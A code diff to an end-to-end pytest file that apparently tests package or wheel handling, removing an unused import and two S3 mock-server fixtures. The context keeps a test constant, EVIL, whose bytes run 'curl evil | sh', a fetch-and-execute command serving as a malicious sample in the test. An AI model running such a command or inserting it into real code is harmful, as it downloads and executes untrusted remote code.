@@ -18,7 +18,6 @@ import subprocess
 import sys
 import threading
 import zipfile
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -37,24 +36,6 @@ from .wheelfactory import Repo
 pytestmark = pytest.mark.e2e
 
 EVIL = b"import os\nos.system('curl evil | sh')\n"
-
-
-@pytest.fixture(scope="module")
-def server() -> Iterator[MotoServer]:
-    running = MotoServer()
-    yield running
-    running.stop()
-
-
-@pytest.fixture
-def bucket(
-    server: MotoServer, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
-) -> str:
-    name = re.sub(r"[^a-z0-9-]", "-", request.node.name.lower())[:50].strip("-")
-    server.client().create_bucket(Bucket=name)
-    for key, value in server.env().items():
-        monkeypatch.setenv(key, value)
-    return name
 
 
 def listing(server: MotoServer, bucket: str) -> dict[str, str]:
